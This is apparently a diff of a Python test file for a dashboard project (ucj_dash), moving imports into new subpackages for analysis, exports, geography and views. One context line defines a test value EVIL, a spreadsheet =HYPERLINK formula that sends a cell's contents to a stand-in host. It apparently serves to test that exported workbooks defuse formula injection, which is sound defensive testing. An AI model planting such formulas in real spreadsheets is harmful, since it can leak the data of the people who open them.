@@ -11,11 +11,13 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from ucj_dash import mapview, priority, workbook
-from ucj_dash.dataset import Dataset
-from ucj_dash.exportnames import export_filename, slug
-from ucj_dash.regions import Registry
-from ucj_dash.settings import Settings
+from ucj_dash.analysis import priority
+from ucj_dash.analysis.settings import Settings
+from ucj_dash.datasets.dataset import Dataset
+from ucj_dash.exports import workbook
+from ucj_dash.exports.filenames import export_filename, slug
+from ucj_dash.geography.regions import Registry
+from ucj_dash.views import mapview
 
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
 
@@ -173,7 +175,7 @@ def test_export_filename():
 
 
 def test_priority_xlsx_matches_the_priority_list(demo_dataset, registry, settings):
-    from ucj_dash.regions import Level
+    from ucj_dash.geography.regions import Level
 
     data = workbook.priority_xlsx(demo_dataset, registry, "53", Level.DISTRICT, demo_dataset.latest_period, settings, "id")
     wb = _load(data)
